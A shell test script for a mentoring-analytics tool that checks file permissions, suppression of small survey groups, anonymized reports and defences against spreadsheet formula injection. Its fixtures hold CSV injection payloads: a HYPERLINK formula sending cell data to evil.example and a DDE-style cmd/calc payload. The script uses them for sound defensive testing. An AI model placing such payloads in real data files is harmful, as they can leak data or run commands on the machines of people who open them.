#!/usr/bin/env bash
# test_privacy.sh - personal data stays private: the database and every
# report file are readable by their owner only, whatever the umask; no
# output shows a suppressed survey group's figures; --anonymize leaves no
# name or e-mail in any output; text from the data never becomes a formula.
. "$(dirname "$0")/lib.sh"
S="$ROOT/sample-data/small"
PY=/usr/bin/python3 # with python3-openpyxl
cd "$T" || exit 1

# --- permissions under a permissive umask -------------------------------
umask 000
run tether-collect people -q --as-of 2025-10-01 "$S/people.csv"
run tether-collect people -q --as-of 2026-07-01 "$S/people-2.csv"
run tether-collect pairs -q "$S/pairs.csv"
run tether-collect meetings -q "$S/meetings.csv"
run tether-collect survey -q --questions "$S/questions.csv" "$S/responses.csv"
expect_eq "sample organisation loaded" "$(sql "SELECT count(*) > 0 FROM responses")" 1
expect_eq "database is 0600 under umask 000" "$(stat -c %a "$TETHER_DB")" 600
# SQLite gives its -wal and -shm files the database's mode: look at them
# while a connection holds them open.
$PY - "$TETHER_DB" >modes.txt <<'PY'
import os, sqlite3, stat, sys
db = sys.argv[1]
c = sqlite3.connect(db)
c.execute("SELECT count(*) FROM people").fetchone()
for s in ("-wal", "-shm"):
    print(s, oct(stat.S_IMODE(os.stat(db + s).st_mode))[2:])
c.close()
PY
expect_eq "write-ahead log and shared memory are 0600 too" "$(cat modes.txt)" \
"-wal 600
-shm 600"

run tether-analyze --quarter 2026Q3 --by site,department --format json
printf '%s\n' "$OUT" >analysis.json
run tether-report --quarter 2026Q3 --out "$T/rep" --quiet
expect_eq "report exit status under umask 000" "$RC" 0
expect_eq "report folder is 0700" "$(stat -c %a "$T/rep")" 700
expect_eq "every report file is 0600" \
    "$(find "$T/rep" -type f ! -perm 600 | wc -l)/$(find "$T/rep" -type f | wc -l)" \
    "0/26"
# An existing folder open to all keeps the files private all the same.
mkdir -m 777 "$T/open"
run tether-report --quarter 2026Q3 --out "$T/open" --csv --quiet
expect_eq "files in a 0777 folder are still 0600" \
    "$(find "$T/open" -type f ! -perm 600 | wc -l)/$(find "$T/open" -type f | wc -l)" \
    "0/11"
umask 077

# --- suppressed survey groups -------------------------------------------
# The groups the analysis suppressed (fewer than 5 respondents, or
# suppressed to protect them) ...
$PY - analysis.json >suppressed.txt <<'PY'
import json, sys
d = json.load(open(sys.argv[1]))
for s in d["surveys"]:
    if s["suppressed"]:
        shown = [k for k in ("n", "mean", "sd", "ci_low", "ci_high",
                             "favourable", "counts", "nps") if s.get(k) is not None]
        print("\t".join([s["construct"], s["dimension"], s["segment"]] + shown))
PY
n=$(wc -l <suppressed.txt)
if [ "$n" -ge 10 ]; then ok "analysis suppresses small groups ($n)"; else
    fail "analysis suppresses small groups" "only $n"; fi
expect_eq "JSON gives no figure of a suppressed group" \
    "$(awk -F'\t' 'NF > 3' suppressed.txt)" ""
# ... have no figure in the report's CSV or workbook either.
$PY - suppressed.txt "$T/rep" >leaks.txt <<'PY'
import csv, glob, sys
import openpyxl
supp = set()
for line in open(sys.argv[1]):
    supp.add(tuple(line.rstrip("\n").split("\t")[:3]))
KEYS = ("construct", "dimension", "segment", "suppressed")
out, seen = [], {"csv": 0, "xlsx": 0}
def check(where, head, row):
    rec = dict(zip(head, row))
    key = tuple(str(rec.get(k)) for k in KEYS[:3])
    if key not in supp:
        return
    seen[where] += 1
    figs = [k for k, v in rec.items() if k not in KEYS and v not in ("", None)]
    if figs:
        out.append("%s %s shows %s" % (where, key, figs))
for f in glob.glob(sys.argv[2] + "/*-surveys.csv"):
    rows = list(csv.reader(open(f, encoding="utf-8")))
    for r in rows[1:]:
        check("csv", rows[0], r)
wb = openpyxl.load_workbook(glob.glob(sys.argv[2] + "/*.xlsx")[0])
head = None
for r in wb["Surveys"].iter_rows(values_only=True):
    if r[:3] == ("Construct", "Dimension", "Segment"):
        # the workbook's headers are words; the keys are the spec's names
        head = tuple({"Construct": "construct", "Dimension": "dimension",
                      "Segment": "segment",
                      "Suppressed": "suppressed"}.get(h, h) for h in r)
    elif head:
        check("xlsx", head, r)
out.append("suppressed rows: csv %d, xlsx %d" % (seen["csv"], seen["xlsx"]))
print("\n".join(out))
PY
echo "exit $?" >>leaks.txt
expect_eq "no suppressed group's figure in the CSV or the workbook" \
    "$(cat leaks.txt)" "suppressed rows: csv $n, xlsx $n
exit 0"

# --- --anonymize: no name or e-mail of the roster anywhere ---------------
run tether-report --quarter 2026Q3 --out "$T/anon" --anonymize --quiet
expect_eq "anonymized report exit status" "$RC" 0
{
    cat "$T"/anon/*.csv
    # the workbook's XML, entities decoded (O'Brien is O&apos;Brien there)
    unzip -p "$T"/anon/*.xlsx | $PY -c 'import html, sys; print(html.unescape(sys.stdin.read()))'
    pdftotext -raw "$T"/anon/*.pdf -
    strings "$T"/anon/*.png
    tether-report --quarter 2026Q3 --out "$T/anon-svg" --anonymize --charts svg --quiet >/dev/null
    $PY -c 'import html, sys; print(html.unescape(sys.stdin.read()))' <<<"$(cat "$T"/anon-svg/*.svg)"
} >anon.txt
$PY - "$S/people.csv" "$S/people-2.csv" >names.txt <<'PY'
import csv, sys
seen = set()
for f in sys.argv[1:]:
    for r in csv.DictReader(open(f, encoding="utf-8")):
        for k in ("name", "email"):
            v = (r.get(k) or "").strip()
            if v and v.lower() not in seen:
                seen.add(v.lower())
                print(v)
PY
expect_eq "names and e-mails to look for" "$(($(wc -l <names.txt) > 500))" 1
leaks=$(grep -F -i -o -f names.txt anon.txt | sort -u | head -5)
expect_eq "no name or e-mail in any anonymized output" "$leaks" ""
# (and the same search finds them in the plain report: it can fail)
found=$(cat "$T"/rep/*.csv | grep -F -i -c -f names.txt)
if [ "$found" -gt 0 ]; then ok "the plain report does name people ($found lines)"; else
    fail "the plain report does name people" "found none"; fi

# --- formula injection ----------------------------------------------------
export TETHER_DB="$T/formula.db"
cat >f-people.csv <<'CSV'
person_id,name,email,work_mode,timezone,department,site,level
f1,=HYPERLINK("http://evil.example/?"&A1),f1@example.com,office,UTC,+cmd|' /C calc'!A0,@SUM(1+1),-2+3
f2,"+SUM(1,2)",f2@example.com,remote,UTC,	=1+1,"
=CR",=L4
f3,-1+1,f3@example.com,office,UTC,Sales,London,L2
f4,@ref,f4@example.com,remote,UTC,Sales,London,L2
CSV
cat >f-pairs.csv <<'CSV'
pair_id,program,mentor,mentee,started_on
=P1,=1+2,f1,f2,2026-01-01
+P2,@prog,f3,f4,2026-01-01
CSV
cat >f-meetings.csv <<'CSV'
meeting_id,pair_id,started_at,duration_min,medium
=m1,=P1,2026-07-06T10:00Z,30,video
+m2,+P2,2026-07-07T10:00Z,30,video
CSV
run tether-collect people --as-of 2026-01-01 f-people.csv
expect_eq "formula-like roster loads" "$RC" 0
run tether-collect pairs f-pairs.csv
run tether-collect meetings f-meetings.csv
expect_eq "formula-like pairs and meetings load" "$(sql "SELECT count(*) FROM contacts")" 2
run tether-report --quarter 2026Q3 --out "$T/frep" --xlsx --csv --quiet
expect_eq "report of formula-like data" "$RC" 0
$PY - "$T"/frep/*.xlsx >formulas.txt <<'PY'
import sys
import openpyxl
wb = openpyxl.load_workbook(sys.argv[1])
for ws in wb.worksheets:
    for row in ws.iter_rows():
        for c in row:
            if c.data_type == "f" or (isinstance(c.value, str) and c.value.startswith("=") and c.data_type != "s"):
                print(ws.title, c.coordinate, repr(c.value))
texts = sum(1 for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if isinstance(c.value, str) and c.value in ("=1+2", "=P1", "@prog", "+P2"))
print("texts", texts > 0)
PY
echo "exit $?" >>formulas.txt
expect_eq "workbook: data is text, never a formula" "$(cat formulas.txt)" "texts True
exit 0"
tether-analyze --quarter 2026Q3 --by department,site,level --format csv >"$T/frep/analysis.csv"
tether-analyze pairs --quarter 2026Q3 --status never_met,active,at_risk,inactive --format csv >"$T/frep/follow-up.csv"
expect_match "tether-analyze's CSV holds the formula-like name" \
    "$(cat "$T/frep/follow-up.csv")" "HYPERLINK"
bad=$($PY - "$T"/frep/*.csv <<'PY'
import csv, sys
for f in sys.argv[1:]:
    for r in csv.reader(open(f, encoding="utf-8")):
        for v in r:
            if v and v[0] in "=+@\t\r" or (v.startswith("-") and not v.lstrip("-").replace(".", "", 1).isdigit()):
                print(f.rsplit("/", 1)[1], repr(v))
PY
) || bad="$bad (the check failed)"
expect_eq "CSV exports and tether-analyze CSV: every formula-like cell is escaped" "$bad" ""
expect_match "CSV exports keep the text after the escape" \
    "$(cat "$T"/frep/*-pairs.csv)" "'=1\+2"
